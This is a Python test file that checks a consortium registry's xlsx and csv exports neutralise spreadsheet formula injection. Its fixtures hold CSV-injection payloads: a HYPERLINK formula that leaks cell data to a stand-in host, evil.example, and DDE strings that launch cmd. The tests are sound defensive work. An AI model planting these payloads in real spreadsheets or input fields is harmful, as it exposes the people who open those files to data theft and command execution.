"""Fault 8: a hostile consortium or unit name never becomes a live formula in any registry export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import sqlalchemy as sa
from openpyxl import load_workbook

from service.consortium.spreadsheet_cells import neutralise_cell
from service.consortium.store.models import Consortium, Organisation
from tests.support.pages import sign_in
from tests.support.procedure import LEAD

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "industry": "+1+cmd|' /C calc'!A0",
    "district": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lead": "-2+3+cmd|' /C calc'!A0",
    "application_no": "\tCXLHT-EVIL",
    "status": "\r=1+1",
}


def _plant(ctx) -> None:
    now = datetime(2026, 3, 2, tzinfo=UTC)
    with ctx.unit_of_work() as uow:
        uow.session.execute(sa.update(Organisation).where(Organisation.credit_code == LEAD).values(
            name=HOSTILE["lead"]
        ))
        uow.session.add(Consortium(
            application_no=HOSTILE["application_no"], name=HOSTILE["name"], industry=HOSTILE["industry"],
            lead_credit_code=LEAD, district=HOSTILE["district"], status=HOSTILE["status"],
            created_at=now, updated_at=now,
        ))
        uow.commit()


def _hostile_row(rows: list[list[str]]) -> list[str]:
    return next(r for r in rows if "HYPERLINK" in (r[1] or ""))


def test_neutralise_cell_follows_the_owasp_rule():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_cell(start + "1") == "'" + start + "1"
    assert neutralise_cell("青岛-联合体=1") == "青岛-联合体=1"  # only the first character matters
    assert neutralise_cell(None) == "" and neutralise_cell(12) == "12"


def test_xlsx_export_keeps_hostile_names_as_text(server):
    _plant(server.ctx)
    browser = server.client(None)
    assert sign_in(browser, "city1").status_code == 303
    answer = browser.get("/registry/export.xlsx")
    assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment")
    sheet = load_workbook(io.BytesIO(answer.content)).active
    rows = [[c for c in line] for line in sheet.iter_rows(min_row=2)]
    hostile = next(r for r in rows if "HYPERLINK" in str(r[1].value))
    for cell in hostile:
        if cell.value is not None:
            assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
            assert not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    assert hostile[1].value == "'" + HOSTILE["name"]
    assert hostile[3].value == "'" + HOSTILE["lead"]


def test_csv_export_keeps_hostile_names_as_text(server):
    _plant(server.ctx)
    browser = server.client(None)
    assert sign_in(browser, "city1").status_code == 303
    answer = browser.get("/registry/export.csv")
    assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    hostile = _hostile_row(rows[1:])
    assert [cell[:1] for cell in hostile if cell] == ["'"] * 6 + [c[:1] for c in hostile[6:] if c]
    assert hostile[1] == "'" + HOSTILE["name"] and hostile[2] == "'" + HOSTILE["industry"]
    assert hostile[0] == "'" + HOSTILE["application_no"] and hostile[5] == "'" + HOSTILE["status"]
